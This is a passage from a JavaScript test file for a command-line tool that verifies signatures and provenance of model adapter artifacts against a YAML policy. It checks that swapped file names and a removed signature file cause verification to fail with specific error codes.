    expect(r.signature).toBe(path.join(adapter, 'model.sig'));
    const file = writePolicy('attest-signs.yaml', `signers:\n  trainer: { keys: [keys/trainer.pub] }\n  publisher: { keys: [keys/publisher.pub] }\nartifacts:\n  - { name: "adapter", signers: [trainer], lineage: required, roots: [publisher] }\n  - { name: "**", signers: [publisher] }\n`);
    expect(cli(['verify', adapter, '--policy', file, '--with', base, '--json']).status).toBe(0);
    swapNames(adapter);
    const bad = cli(['verify', adapter, '--policy', file, '--with', base, '--json']);
    expect({ status: bad.status, code: bad.json.error.code }).toEqual({ status: 1, code: 'ARTIFACT_MISMATCH' });
    // Without a signature naming the files, a provenance alone does not vouch for them.
    fs.rmSync(path.join(adapter, 'model.sig'));
    const unsigned = cli(['verify', adapter, '--policy', file, '--with', base, '--json']);
    expect({ status: unsigned.status, code: unsigned.json.error.code }).toEqual({ status: 1, code: 'FILES_NOT_SIGNED' });
  });
});
